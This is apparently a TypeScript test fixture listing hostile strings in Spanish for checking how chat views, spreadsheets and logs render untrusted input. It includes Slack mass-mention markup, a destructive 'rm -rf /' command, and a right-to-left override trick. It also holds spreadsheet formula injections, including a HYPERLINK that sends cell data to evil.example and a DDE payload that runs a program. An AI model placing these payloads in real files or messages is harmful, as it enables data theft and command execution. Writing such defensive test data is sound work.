const LONG_TEXT_LENGTH = 4000;
const RIGHT_TO_LEFT_OVERRIDE = '\u202e';

/** Texts that break a careless view, spreadsheet or log. */
export const hostileTexts: readonly string[] = [
  '<!channel> <!here> <!everyone> aviso urgente',
  'Hola <@U1>, revise <#C1|general> y <!subteam^S1>',
  '<https://evil.example|click> para ganar & cobrar <b>ya</b>',
  '```rm -rf /``` y `código` *negrita* _cursiva_ ~tachado~ &amp; > cita',
  `Su saldo es ${RIGHT_TO_LEFT_OVERRIDE}000.1$ hoy\u0007\u200b`,
  ''.padEnd(LONG_TEXT_LENGTH, 'Texto muy largo, una y otra vez. '),
  '=HYPERLINK("https://evil.example/?x="&A1,"premio")',
  '+cmd|\' /C calc\'!A0\r\n@SUM(1+1)*"comillas", "coma"; punto y coma\n-2+3',
];
